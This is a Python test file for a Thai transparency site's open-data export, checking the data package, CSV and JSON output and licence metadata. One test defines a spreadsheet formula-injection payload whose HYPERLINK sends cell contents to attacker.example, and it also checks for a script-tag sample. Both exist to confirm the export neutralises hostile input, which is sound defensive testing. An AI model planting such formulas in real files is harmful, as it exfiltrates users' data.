"""``ita-site export``: a valid Frictionless Data Package that spreadsheets, validators and programs read as meant.

Projects are exported as staff do it (the command, into a temporary folder) and read back as their users
would: Frictionless validates the package, pandas opens the CSV with its default options, JSON Schema
checks the JSON, and hostile text comes back as typed without becoming a formula, markup or YAML.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import frictionless
import markdown
import pandas as pd
import pytest
import yaml
from jsonschema import Draft202012Validator
from referencing import Registry, Resource

from hostile import INLINE, TODAY, make_hostile
from ita_site.checks import run_checks
from ita_site.content.facts import project_facts
from ita_site.content.findings import Level
from ita_site.content.project import load_project
from ita_site.outputs import catalogue, datapackage
from ita_site.outputs.datapackage import TABLES
from ita_site.outputs.export import open_data_files
from ita_site.plugin.settings import read_settings
from support.harness import GOOD, REPO, build_site, changed_copy, copy_project, replace_in, run_ita_site

EXAMPLE = REPO / "examples" / "tambon-example"
SEED_TODAY = "2026-11-30"
#: Text that a spreadsheet would run as a formula if it reached a cell as typed.
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"คลิก") '


def export(project: Path, out: Path) -> Path:
    result = run_ita_site("export", out, "--project", project)
    assert result.returncode == 0, result.stdout + result.stderr
    return out


def _dated(project: Path, today: str) -> Path:
    replace_in(project / "mkdocs.yml", "      content_dir: content\n", f'      content_dir: content\n      today: "{today}"\n')
    return project


PROJECTS = {"seed": REPO, "example": EXAMPLE, "small": GOOD}


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Each project exported once for the module, side by side; ``numeric`` is the small project with measure
    ids ``1`` and ``1-2`` and weaknesses without questions."""
    work = tmp_path_factory.mktemp("exports")
    numeric = changed_copy(work / "numeric-project", ("content/plans/2567.yaml", 'id: "1-1"', 'id: "1"'),
                           ("content/assessments/2566.yaml", "questions: [eit-6-1]", "questions: []"),
                           ("content/assessments/2566.yaml", "questions: [eit-7-3]", "questions: []"))
    projects = {**PROJECTS, "numeric": numeric}
    with ThreadPoolExecutor(max_workers=len(projects)) as pool:
        done = {name: pool.submit(export, project, work / name) for name, project in projects.items()}
    return {name: future.result() for name, future in done.items()}


@pytest.fixture
def numeric_ids(exported: dict[str, Path]) -> Path:
    return exported["numeric"]


@pytest.mark.parametrize("name", list(PROJECTS))
def test_the_export_is_a_valid_data_package(exported: dict[str, Path], name: str) -> None:
    out = exported[name]
    report = frictionless.validate(out / datapackage.PACKAGE_FILE)
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "type", "note"])
    package = json.loads((out / datapackage.PACKAGE_FILE).read_text(encoding="utf-8"))
    tables = [r for r in package["resources"] if r.get("profile") == "tabular-data-resource"]
    assert [r["name"] for r in tables] == [t.name for t in TABLES]
    assert any(r["schema"].get("foreignKeys") for r in tables)
    for resource in tables:
        for field in resource["schema"]["fields"]:
            assert field["title"] and field["description"], (resource["name"], field["name"])


def test_the_data_dictionary_describes_every_column_of_every_table(exported: dict[str, Path]) -> None:
    readme = (exported["seed"] / "README.md").read_text(encoding="utf-8")
    package = json.loads((exported["seed"] / datapackage.PACKAGE_FILE).read_text(encoding="utf-8"))
    for resource in package["resources"]:
        if "schema" in resource:
            assert f"(`{resource['path']}`" in readme, resource["path"]
            for field in resource["schema"]["fields"]:
                assert f"| {field['name']} | `{field['jsonKey']}` | {field['type']} |" in readme, field["name"]


def test_a_broken_key_fails_validation(exported: dict[str, Path], tmp_path: Path) -> None:
    """The foreign keys are checked: a link to a weakness that does not exist makes the package invalid."""
    out = shutil.copytree(exported["small"], tmp_path / "open-data")
    replace_in(out / "measure_weaknesses.csv", "2566/weaknesses/eit-6", "2566/weaknesses/eit-9")
    report = frictionless.validate(out / datapackage.PACKAGE_FILE)
    assert not report.valid
    assert {kind for (kind,) in report.flatten(["type"])} == {"foreign-key"}


@pytest.mark.parametrize("name", ["seed", "example"])
def test_every_json_export_validates_against_its_schema(exported: dict[str, Path], name: str) -> None:
    out = exported[name]
    package = json.loads((out / datapackage.PACKAGE_FILE).read_text(encoding="utf-8"))
    schemas = {p.relative_to(out / "schema").as_posix(): json.loads(p.read_text(encoding="utf-8"))
               for p in (out / "schema").glob("*.json")}
    registry = Registry().with_resources((name, Resource.from_contents(s)) for name, s in schemas.items())
    described = [r for r in package["resources"] if r["format"] == "json"]
    assert {r["path"] for r in described} == {p.name for p in out.glob("*.json")} - {"datapackage.json"}
    for resource in described:
        schema = schemas[resource["jsonSchema"].removeprefix("schema/")]
        data = json.loads((out / resource["path"]).read_text(encoding="utf-8"))
        errors = list(Draft202012Validator(schema, registry=registry).iter_errors(data))
        assert not errors, (resource["path"], [e.message for e in errors[:3]])


def test_a_spreadsheet_reads_ids_as_text_and_thai_headers(numeric_ids: Path) -> None:
    measures = pd.read_csv(numeric_ids / "measures.csv")
    schema = datapackage.table_schema(datapackage.MEASURES)
    assert list(measures.columns) == [field["name"] for field in schema["fields"]]
    assert "รหัส" in measures.columns and "ปีงบประมาณ (พ.ศ.)" in measures.columns
    assert "วันเริ่มต้น (ค.ศ.)" in measures.columns and "ข้อมูล ณ วันที่ (ค.ศ.)" in measures.columns
    assert pd.api.types.is_string_dtype(measures["รหัส"])
    assert list(measures["รหัส"]) == ["2567/measures/1", "2567/measures/1-2"]
    links = pd.read_csv(numeric_ids / "measure_weaknesses.csv")
    assert pd.api.types.is_string_dtype(links["มาตรการ"])
    assert list(links["มาตรการ"]) == ["2567/measures/1", "2567/measures/1-2"]


def test_an_empty_table_keeps_its_header_row(numeric_ids: Path) -> None:
    raw = (numeric_ids / "weakness_questions.csv").read_bytes()
    header = ",".join(c.name for c in datapackage.WEAKNESS_QUESTIONS.columns)
    assert raw == b"\xef\xbb\xbf" + header.encode("utf-8") + b"\r\n"
    empty = pd.read_csv(numeric_ids / "weakness_questions.csv")
    assert empty.empty and list(empty.columns) == header.split(",")
    assert frictionless.validate(numeric_ids / datapackage.PACKAGE_FILE).valid


def test_measures_carry_the_facts_the_site_shows(exported: dict[str, Path]) -> None:
    """The example's mkdocs.yml fixes its build date: the export shows each measure as the facts give it then."""
    out = exported["example"]
    rows = list(csv.DictReader(io.StringIO((out / "measures.csv").read_text(encoding="utf-8-sig"))))
    facts = project_facts(load_project(EXAMPLE / "content", EXAMPLE), read_settings(EXAMPLE).today)
    expected = [(f"{year}/measures/{m.measure.id}", m.state.code, m.state.thai, str(m.percent or ""),
                 m.latest.date.isoformat() if m.latest else "")
                for year, plan in facts.plans.items() for m in plan.measures]
    assert [(r["รหัส"], r["รหัสสถานะ"], r["สถานะ"], r["ร้อยละที่ดำเนินการแล้ว"], r["วันที่รายงานล่าสุด (ค.ศ.)"])
            for r in rows] == expected
    assert any(r["ความคืบหน้าล่าสุด"] for r in rows) and any(r["ร้อยละที่ดำเนินการแล้ว"] for r in rows)


def test_without_a_licence_the_metadata_says_so_and_invents_none(exported: dict[str, Path]) -> None:
    out = exported["seed"]
    package = json.loads((out / datapackage.PACKAGE_FILE).read_text(encoding="utf-8"))
    assert "licenses" not in package
    assert "ยังไม่ได้ระบุสัญญาอนุญาต" in package["description"]
    entry = json.loads((out / catalogue.CATALOGUE_FILE).read_text(encoding="utf-8"))
    assert entry["dataset"]["license_id"] is None
    assert {"license_id", "objective", "category", "update_frequency", "maintainer"} <= set(entry["missing"])
    template = (out / catalogue.TEMPLATE_FILE).read_text(encoding="utf-8")
    assert f"# ยังขาด {len(entry['missing'])} ช่อง" in template and "# license:" in template
    assert yaml.safe_load(template)["open_data"]["publisher"] == "องค์การบริหารส่วนตำบลโละจูด"
    assert "ยังไม่ได้ระบุสัญญาอนุญาต" in (out / "README.md").read_text(encoding="utf-8")


def test_staff_get_a_located_note_until_they_name_a_licence() -> None:
    notes = [f for f in run_checks(load_project(REPO / "content", REPO), TODAY) if f.code == "ITA630"]
    assert [(f.file, f.level) for f in notes] == [("content/agency.yaml", Level.INFO)]
    assert "open_data" in notes[0].hint("th") and "license" in notes[0].hint("en")
    assert not [f for f in run_checks(load_project(GOOD / "content", GOOD), TODAY) if f.code == "ITA630"]


def test_the_licence_and_catalogue_fields_come_from_agency_yaml(exported: dict[str, Path]) -> None:
    out = exported["small"]
    package = json.loads((out / datapackage.PACKAGE_FILE).read_text(encoding="utf-8"))
    given = yaml.safe_load((GOOD / "content" / "agency.yaml").read_text(encoding="utf-8"))["open_data"]
    assert package["licenses"] == [{"title": given["license"]["title"], "path": given["license"]["url"]}]
    assert package["contributors"][0]["title"] == given["publisher"]
    entry = json.loads((out / catalogue.CATALOGUE_FILE).read_text(encoding="utf-8"))
    assert entry["missing"] == []
    assert entry["dataset"]["temporal_coverage_start"] == "2022-10-01"  # fiscal year 2566 began 1 October 2565
    assert entry["dataset"]["temporal_coverage_end"] == "2024-09-30"  # 2567 ended 30 September 2567
    assert yaml.safe_load((out / catalogue.TEMPLATE_FILE).read_text(encoding="utf-8"))["open_data"] == given


def test_hostile_text_stays_text_in_csv_json_yaml_and_markdown(tmp_path: Path) -> None:
    hostile = make_hostile(GOOD, tmp_path / "hostile", "thai", prefix=FORMULA, suffix=INLINE)
    project = load_project(hostile.root / "content", hostile.root)
    files = open_data_files(project, TODAY)
    for table in TABLES:
        rows = list(csv.reader(io.StringIO(files[f"{table.name}.csv"].decode("utf-8-sig"))))[1:]
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], table.name
    measures = json.loads(files["measures.json"])
    typed = project.plans[2567].measures[0].title
    assert typed.startswith("=HYPERLINK") and measures[0]["title"] == typed  # JSON keeps the text as typed
    assert next(csv.DictReader(io.StringIO(files["measures.csv"].decode("utf-8-sig"))))["มาตรการ"] == \
        "'" + " ".join(typed.split())
    agency = project.agency
    template = yaml.safe_load(files[catalogue.TEMPLATE_FILE])["open_data"]
    assert template["objective"] == agency.open_data.objective and template["keywords"] == agency.open_data.keywords
    package = json.loads(files[datapackage.PACKAGE_FILE])
    assert package["contributors"][0]["title"] == agency.open_data.publisher
    readme = markdown.markdown(files["README.md"].decode("utf-8"), extensions=["tables"])
    assert "<script" not in readme and "<img" not in readme and "<svg" not in readme
    assert "&lt;script&gt;alert(" in readme  # shown as typed, as text


@pytest.mark.slow
def test_the_build_publishes_the_same_bytes_as_the_export(tmp_path: Path) -> None:
    project = _dated(copy_project(REPO, tmp_path / "project"), SEED_TODAY)
    build = build_site(project, tmp_path)
    assert build.result.returncode == 0, build.output
    out = export(project, tmp_path / "open-data")
    built = {p.relative_to(build.site / "data").as_posix(): p.read_bytes()
             for p in (build.site / "data").rglob("*") if p.is_file()}
    exported = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert built.keys() == exported.keys() and datapackage.PACKAGE_FILE in built
    assert [name for name in built if built[name] != exported[name]] == []
